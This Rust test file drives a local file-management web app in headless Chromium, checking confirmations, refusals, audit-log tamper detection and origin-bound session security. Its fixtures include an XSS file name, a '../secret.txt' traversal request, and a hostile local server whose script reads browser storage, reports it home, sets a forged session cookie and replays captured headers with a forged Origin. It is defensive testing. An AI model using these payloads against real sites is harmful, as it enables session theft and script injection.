//! The page in real headless Chromium: type a request and see it done; the
//! delete modal (No keeps the file, Yes removes it); a hostile file name is
//! shown as text and creates no element.

mod common;

use common::Server;
use common::browser::{self, Browser, served};
use serde_json::json;
use voicebox_test_support::audit_files;

#[tokio::test]
async fn a_person_works_in_their_folder_from_the_page() {
    let Some(server) = served() else { return };
    let hostile = "<img src=x onerror=alert(1)>";
    std::fs::write(server.root.join(hostile), "boo").unwrap();
    let browser = Browser::open_page(&server, browser::VIEWPORTS[2]).await;
    let page = &browser.client;

    // An example to try puts its words in the composer.
    browser
        .js("document.querySelector('#examples .example').click()")
        .await;
    assert_eq!(
        browser
            .js("return document.getElementById('utterance').value")
            .await,
        "create a file called hello.txt with hi"
    );

    // Type a request and see the result, in the transcript and on disk.
    browser.say("create a file called hello.txt with hi").await;
    browser
        .wait_last_turn("the write", "wrote hello.txt (2 bytes)")
        .await;
    assert_eq!(server.file("hello.txt"), "hi");
    browser
        .wait_text("hello.txt in the file list", "files", "hello.txt")
        .await;

    // A refusal shows its rule and why.
    browser.say("read ../secret.txt").await;
    browser
        .wait_for("a named refusal", "const t = [...document.querySelectorAll('#transcript .turn')].pop(); const r = t && t.querySelector('.refused .rule'); return !!r && r.textContent === 'outside-root';")
        .await;
    // Its sentence's `code` spans are code, never backticks shown as they are.
    let why = browser
        .js("const t = [...document.querySelectorAll('#transcript .turn')].pop(); const w = t.querySelector('.refused .why'); return [w.querySelector('code') && w.querySelector('code').textContent, w.textContent.includes('`')];")
        .await;
    assert_eq!(why, json!(["../secret.txt", false]), "{why}");

    // A file that is not there is information, not a refusal.
    browser.say("read nothere.txt").await;
    browser
        .wait_for(
            "a neutral not-found",
            "const t = [...document.querySelectorAll('#transcript .turn')].pop(); const n = t && t.querySelector('.not-found'); return !!n && n.textContent.startsWith('Not found') && !t.querySelector('.refused');",
        )
        .await;

    // Delete asks; No keeps the file.
    browser.say_and_ask("delete hello.txt").await;
    // The exact plan is one tap away, behind Details.
    let plan = browser
        .js("const p = document.getElementById('confirm-plan'); return [p.checkVisibility(), p.textContent];")
        .await;
    assert_eq!(plan[0], false, "{plan}");
    assert!(plan[1].as_str().unwrap().contains("hello.txt"), "{plan}");
    // Plain words: the question, what yes means, and the answers' names.
    let words = browser
        .js("return ['confirm-title', 'confirm-why', 'confirm-yes', 'confirm-no'].map((id) => document.getElementById(id).textContent);")
        .await;
    assert_eq!(
        words,
        json!([
            "Delete hello.txt?",
            "You can bring it back with undo.",
            "Delete",
            "Cancel"
        ])
    );
    browser.photograph("confirm-modal").await;
    browser.answer(false).await;
    // The person's own No is a neutral "Kept", not a refusal.
    browser
        .wait_for(
            "the declined answer",
            "const t = [...document.querySelectorAll('#transcript .turn')].pop(); const d = t && t.querySelector('.declined'); return !!d && d.textContent === 'Kept hello.txt.' && !t.querySelector('.refused');",
        )
        .await;
    assert!(server.root.join("hello.txt").exists(), "No keeps the file");

    // Escape is also No.
    browser.say_and_ask("delete hello.txt").await;
    page.active_element()
        .await
        .unwrap()
        .send_keys("\u{e00c}")
        .await
        .unwrap();
    browser.wait_for_modal(false).await;
    browser
        .wait_last_turn("the declined answer", "Kept hello.txt.")
        .await;
    assert!(
        server.root.join("hello.txt").exists(),
        "Escape keeps the file"
    );

    // Yes removes it.
    browser.say_and_ask("delete hello.txt").await;
    browser.click("confirm-yes").await;
    browser
        .wait_last_turn("the delete", "deleted hello.txt")
        .await;
    assert!(
        !server.root.join("hello.txt").exists(),
        "Yes removes the file"
    );

    // The hostile name: text in the file list and in the transcript, no element.
    browser.say("list files").await;
    browser.wait_last_turn("the listing", hostile).await;
    browser.wait_text("the file list", "files", hostile).await;
    browser
        .assert_none("img, [onerror]", "no element was created from the name")
        .await;
    let alerts = browser.js("return typeof window.__alerted").await;
    assert_eq!(alerts, "undefined");
    // The activity view shows the acts.
    browser
        .wait_for(
            "the activity feed",
            "return document.querySelectorAll('#audit-body .activity-row').length >= 6",
        )
        .await;
    // ... and the core's verdict on the log's chain, quietly when intact; an
    // edited line is a banner above the feed that says what it means, with
    // the core's exact words in its details.
    browser
        .wait_text("the chain verdict", "audit-notes", "entries check out")
        .await;
    let shot = browser.screenshot("page").await;
    assert!(std::fs::metadata(shot).unwrap().len() > 10_000);
    let log = audit_files(&server.root)
        .into_iter()
        .find(|p| p.extension().is_some_and(|x| x == "jsonl"))
        .unwrap();
    let text = std::fs::read_to_string(&log).unwrap();
    std::fs::write(&log, text.replacen("hello.txt", "hallo.txt", 1)).unwrap();
    browser.click("audit-refresh").await;
    browser
        .wait_for(
            "the break",
            "const b = document.querySelector('#audit-banner .audit-banner'); return !!b && b.textContent.includes('changed after it was written') && b.textContent.includes('cannot be trusted') && b.querySelector('.answer-details').textContent.includes('chain is broken') && b.querySelector('.answer-details').textContent.includes('edited');",
        )
        .await;
    let above = browser
        .js("return !!(document.getElementById('audit-banner').compareDocumentPosition(document.getElementById('audit-body')) & Node.DOCUMENT_POSITION_FOLLOWING)")
        .await;
    assert_eq!(above, true, "the banner is above the feed");
    assert!(
        !browser
            .text("audit-notes")
            .await
            .as_str()
            .unwrap()
            .contains("entries check out"),
        "the quiet line is gone once the chain is broken"
    );
    // A log the host wrote that is gone shows as missing, in words.
    std::fs::rename(&log, log.with_extension("bak")).unwrap();
    browser.click("audit-refresh").await;
    browser
        .wait_for(
            "the missing log",
            "const b = document.querySelector('#audit-banner .audit-banner'); return !!b && b.textContent.includes('is missing') && b.querySelector('.answer-details').textContent.includes('missing —') && b.querySelector('.answer-details').textContent.includes('the host wrote this file');",
        )
        .await;
    browser.close().await;
}

/// Another local server on another port, as any app on the machine may run
/// one: it records the head of every request it receives, tries to set a
/// `voicebox_session` cookie, and serves a page whose script asks its own
/// origin (`/ping`), reads what it can of the browser's storage, fires a
/// no-cors GET at Voicebox's API, and reports (`/report?...`).
struct OtherServer {
    port: u16,
    heads: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl OtherServer {
    fn start(voicebox: u16) -> OtherServer {
        use std::io::{BufRead, BufReader, Write};
        let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let heads = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let recorded = heads.clone();
        let page = format!(
            "<!doctype html><title>other</title><script>(async () => {{ const seen = {{ local: localStorage.getItem('voicebox.session'), keys: Object.keys(localStorage).concat(Object.keys(sessionStorage)), cookie: document.cookie }}; await fetch('/ping').catch(() => {{}}); await fetch('http://127.0.0.1:{voicebox}/api/files', {{ mode: 'no-cors', credentials: 'include' }}).catch(() => {{}}); await fetch('/report?' + encodeURIComponent(JSON.stringify(seen))); document.title = 'done'; }})();</script>"
        );
        let hop = format!(
            "<!doctype html><title>hop</title><script>location.href = 'http://127.0.0.1:{port}/landed';</script>"
        );
        let (page, hop) = (std::sync::Arc::new(page), std::sync::Arc::new(hop));
        std::thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                // One thread each: the browser may hold a connection open
                // without a request (a preconnect).
                let (recorded, page, hop) = (recorded.clone(), page.clone(), hop.clone());
                std::thread::spawn(move || {
                    let mut reader = BufReader::new(&stream);
                    let mut head = String::new();
                    while reader.read_line(&mut head).is_ok_and(|n| n > 2) {}
                    if head.is_empty() {
                        return;
                    }
                    let path = head.split(' ').nth(1).unwrap_or("").to_string();
                    recorded.lock().unwrap().push(head);
                    let body = match path.as_str() {
                        "/" | "/landed" => page.as_str(),
                        "/hop" => hop.as_str(),
                        _ => "",
                    };
                    let _ = write!(
                        &stream,
                        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: voicebox_session=attacker; Path=/\r\nCache-Control: no-store\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                });
            }
        });
        OtherServer { port, heads }
    }

    /// Visits `url` in `browser` and waits for its page's report.
    async fn visit(&self, browser: &Browser, url: &str) {
        let reports = || {
            let heads = self.heads.lock().unwrap();
            heads
                .iter()
                .filter(|h| h.starts_with("GET /report"))
                .count()
        };
        let before = reports();
        browser.client.goto(url).await.unwrap();
        browser
            .wait_for(
                "the other page's script",
                "return document.title === 'done'",
            )
            .await;
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
        while reports() == before {
            assert!(std::time::Instant::now() < deadline, "no report from {url}");
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    }
}

/// Every byte of the root's audit log, to see that nothing was added.
fn audit_bytes(server: &Server) -> u64 {
    std::fs::read_dir(server.root.join(".audit"))
        .map(|dir| {
            dir.flatten()
                .filter_map(|f| f.metadata().ok())
                .map(|m| m.len())
                .sum()
        })
        .unwrap_or(0)
}

/// `method target` sent to Voicebox with every header the other server got
/// in `head` (its cookies included) and a forged, right `Origin`.
fn replay(server: &Server, head: &str, method: &str, target: &str, body: &str) -> (u16, String) {
    let own = [
        "host", "origin", "content-length", "content-type", "connection",
    ];
    let recorded: String = head
        .lines()
        .skip(1)
        .filter(|line| line.contains(':'))
        .filter(|line| {
            let name = line.split(':').next().unwrap().trim().to_ascii_lowercase();
            !own.contains(&name.as_str())
        })
        .map(|line| format!("{line}\r\n"))
        .collect();
    let request = format!(
        "{method} {target} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nOrigin: {origin}\r\n{recorded}Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len(),
        port = server.port,
        origin = server.origin(),
    );
    let (status, text) = common::raw(server.port, &request);
    let rule = serde_json::from_str::<serde_json::Value>(&text).unwrap_or_default()["refused"]
        .as_str()
        .unwrap_or("")
        .to_string();
    (status, rule)
}

/// The page's authority is bound to its origin: once it is signed in,
/// another local server's page, visited directly and through a navigation
/// from another site, receives nothing of the session — and a replay of
/// everything it received, with a forged `Origin`, is refused. The page
/// still acts afterwards, from a second tab, despite the cookie the other
/// port set.
#[tokio::test]
async fn another_port_gets_nothing_it_can_replay_and_the_page_still_acts() {
    let Some(server) = served() else { return };
    let browser = Browser::open_page(&server, browser::VIEWPORTS[2]).await;
    assert_eq!(
        browser.js("return [location.href, document.cookie]").await,
        json!([format!("{}/", server.base), ""]),
        "the session left the address bar, and no cookie holds it"
    );
    let cookies = browser.cdp("Storage.getCookies", json!({})).await;
    assert_eq!(cookies["cookies"], json!([]), "the profile holds no cookie");

    let other = OtherServer::start(server.port);
    let audited = audit_bytes(&server);
    other
        .visit(&browser, &format!("http://127.0.0.1:{}/", other.port))
        .await;
    // localhost is another site than 127.0.0.1: the hop is a cross-site navigation.
    other
        .visit(&browser, &format!("http://localhost:{}/hop", other.port))
        .await;
    assert_eq!(
        audit_bytes(&server),
        audited,
        "the other page's GET at the API did not act"
    );

    let heads = other.heads.lock().unwrap().clone();
    for path in [
        "GET / ", "GET /ping ", "GET /hop ", "GET /landed ", "GET /report",
    ] {
        assert!(
            heads.iter().any(|head| head.starts_with(path)),
            "{path}: {heads:?}"
        );
    }
    let secret = server.page_url.split("token=").nth(1).unwrap();
    for head in &heads {
        assert!(
            !head.contains(&server.session) && !head.contains(secret),
            "the other server received the session or the secret: {head}"
        );
    }
    let write = r#"{"action":{"verb":"write","name":"replayed.txt","content":"x"}}"#;
    for head in &heads {
        assert_eq!(
            replay(&server, head, "POST", "/api/turn", write),
            (401, "no-authority".to_string()),
            "{head}"
        );
        assert_eq!(
            replay(&server, head, "GET", "/api/file?name=replayed.txt", ""),
            (401, "no-authority".to_string()),
            "{head}"
        );
    }
    assert!(!server.root.join("replayed.txt").exists());
    assert_eq!(audit_bytes(&server), audited, "no replay acted");

    // The control: the page, in a second tab opened without the secret,
    // still acts; the cookie the other port set did not sign it out.
    let tab = browser.client.new_window(true).await.unwrap();
    browser.client.switch_to_window(tab.handle).await.unwrap();
    browser.client.goto(&server.url("/")).await.unwrap();
    browser
        .wait_text(
            "the folder's name in the header",
            "root-name",
            &server.root.file_name().unwrap().to_string_lossy(),
        )
        .await;
    browser
        .say("create a file called after.txt with still mine")
        .await;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    while !server.root.join("after.txt").exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "the page's turn wrote nothing"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(server.file("after.txt"), "still mine");
    browser.close().await;
}

/// A guessed change on the page: the dialog asks the sentence, not a rule;
/// No puts what the person typed back in the box; Yes does it.
#[tokio::test]
async fn a_guess_is_asked_as_did_you_mean_and_no_keeps_the_sentence() {
    let Some(server) = served() else { return };
    std::fs::write(server.root.join("todo.txt"), "milk\n").unwrap();
    let browser = Browser::open_page(&server, browser::VIEWPORTS[2]).await;
    let typed = "apend eggs to todo.txt";
    browser.say_and_ask(typed).await;
    let title = browser.text("confirm-title").await;
    assert_eq!(title, "Did you mean: add 'eggs' to todo.txt?");
    browser.answer(false).await;
    browser
        .wait_for(
            "the sentence back in the box",
            &format!("return document.getElementById('utterance').value === {typed:?};"),
        )
        .await;
    assert_eq!(server.file("todo.txt"), "milk\n", "No does nothing");
    // Yes does it; a sure request asks nothing (the control).
    browser.say_and_ask(typed).await;
    browser.click("confirm-yes").await;
    browser.wait_last_turn("the append", "appended").await;
    assert_eq!(server.file("todo.txt"), "milk\neggs");
    browser.say("append bread to todo.txt").await;
    browser.wait_last_turn("the sure append", "appended").await;
    assert_eq!(server.file("todo.txt"), "milk\neggs\nbread");
}
